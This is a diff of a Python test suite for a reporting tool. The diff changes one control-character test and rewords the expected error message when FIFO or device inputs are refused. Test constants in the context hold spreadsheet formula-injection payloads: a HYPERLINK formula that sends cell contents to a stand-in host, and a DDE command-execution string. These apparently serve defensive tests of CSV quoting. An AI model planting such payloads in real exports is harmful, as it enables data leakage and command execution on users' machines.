@@ -25,7 +25,6 @@ from psa_report.project import load_project
 from psa_report.returns import collect_returns
 from psa_report.sheets import csv_text
 from psa_report.workbook_out import issue_requests
-from psa_report.yamledit import replace_values
 
 HYPERLINK = '=HYPERLINK("http://x/?"&"'
 DDE = "=cmd|' /C calc'!A0"
@@ -105,7 +104,8 @@ def test_emit_csv_quotes_every_cell(project: Path):
 
 def test_a_workbook_never_crashes_on_a_control_character(runner, project: Path):
     path = project / "actions/data-gaps/3.2.1.yaml"
-    path.write_text(replace_values(path.read_text(), "3.2.1.yaml", {"update": "form\ffeed"}))
+    text = path.read_text(encoding="utf-8")
+    path.write_text(text.replace("update: ", "update: form\ffeed ", 1), encoding="utf-8")
     result = run(runner, "requests", "--project", str(project))
     assert result.exit_code == 1
     assert "internal error" not in result.output
@@ -266,9 +266,9 @@ def test_a_fifo_or_device_is_refused_without_reading(runner, project: Path, tmp_
     for path in (fifo, Path("/dev/zero")):
         result = run(runner, "collect", "--project", str(project), str(path))
         assert result.exit_code == 1
-        assert "not a regular file" in result.stderr
+        assert "not an ordinary file, so it was not read" in result.stderr
     result = run(runner, "set", "3.2.1", "--update-file", str(fifo), "--project", str(project))
-    assert result.exit_code == 1 and "not a regular file" in result.stderr
+    assert result.exit_code == 1 and "not an ordinary file, so it was not read" in result.stderr
 
 
 def test_a_closed_stdout_ends_quietly(project: Path):
@@ -438,4 +438,4 @@ def test_import_refuses_a_fifo_or_device(runner, project: Path, tmp_path: Path):
     for path in (fifo, Path("/dev/zero")):
         result = run(runner, "import", str(path), "--project", str(project))
         assert result.exit_code == 1, result.output
-        assert "not a regular file" in result.stderr
+        assert "not an ordinary file, so it was not read" in result.stderr
